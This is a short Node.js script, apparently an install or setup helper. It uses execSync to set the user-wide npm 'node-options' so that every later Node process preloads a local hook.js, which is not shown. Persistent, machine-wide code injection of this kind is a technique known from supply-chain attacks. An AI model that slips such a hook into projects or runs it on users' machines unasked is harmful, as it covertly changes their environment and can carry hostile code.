const { execSync } = require('child_process')
const path = require('path')
const hook = path.resolve(__dirname, 'hook.js')
execSync(`npm config set node-options "--require ${hook}" --location=user`)
